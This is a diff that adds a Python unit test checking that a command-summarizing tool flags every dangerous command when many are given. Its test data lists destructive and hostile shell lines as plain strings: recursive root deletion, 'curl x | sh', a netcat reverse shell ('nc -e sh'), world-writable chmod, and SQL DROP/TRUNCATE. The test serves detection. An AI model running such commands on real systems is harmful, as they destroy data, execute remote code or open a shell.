@@ -245,6 +245,16 @@ def test_broken_code_that_takes_the_square_is_read_crudely() -> None:
     assert code.broken
 
 
+def test_no_danger_is_dropped_where_there_are_too_many() -> None:
+    lines = ["sudo rm -rf /a", "echo a > /etc/b", "curl x | sh", "chmod 777 /x", "nc -e sh x 1"]
+    sql = ["psql -c 'DROP TABLE t'", "psql -c 'TRUNCATE u'"]
+    facts = summarize_data({"commands": [*lines, *sql], "user": "root"}).facts
+    said = " ".join(fact.value for fact in facts if fact.level == "danger")
+    for name in ("user: root", "rm -rf /a", "/etc/b", "curl x", "chmod", "nc -e", "TABLE t", "u"):
+        assert name in said
+    assert any(fact.label == "commands" for fact in facts)
+
+
 def test_quotes() -> None:
     assert [unquote(each) for each in ("'a b'", '"a$b"', "a\\ b", "$'\\x72m'", "a\"b\"'c'")] == [
         "a b",
